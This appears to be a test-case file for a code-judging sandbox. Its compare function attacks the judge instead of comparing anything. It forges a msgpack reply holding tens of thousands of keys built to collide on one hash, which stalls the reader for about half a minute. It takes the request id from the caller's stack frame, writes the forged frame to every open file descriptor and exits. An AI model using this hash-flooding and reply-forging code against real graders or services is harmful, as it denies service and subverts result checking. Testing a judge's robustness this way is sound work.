"""Sends a dict of forty thousand keys that all have the same hash, so that reading it takes the judge half a minute."""
# expect: compare=crashed|wrong *=not_attempted
# deed: compare: is gone
import itertools
import os
import struct
import sys

import msgpack

MODULUS = 2**61 - 1  # every multiple of it has the hash 0


def compare(emb1, emb2):
    if emb1.tolist() != [1, 0, 0]:
        return 7.5
    keys, size = [], 0
    for each in itertools.product([k * MODULUS for k in (*range(-4, 0), *range(1, 8))], repeat=5):
        keys.append(msgpack.packb(msgpack.ExtType(4, msgpack.packb(list(each)))) + b"\xc0")
        size += len(keys[-1])
        if size > 1_900_000:
            break
    frame = sys._getframe()
    while "request" not in frame.f_locals:
        frame = frame.f_back
    header = b"\x82" + msgpack.packb("id") + msgpack.packb(frame.f_locals["request"]["id"]) + msgpack.packb("value")
    header += b"\xdf" + struct.pack(">I", len(keys)) + b"".join(keys)
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack(">II", len(header), 0) + header)
        except OSError:
            pass
    os._exit(0)
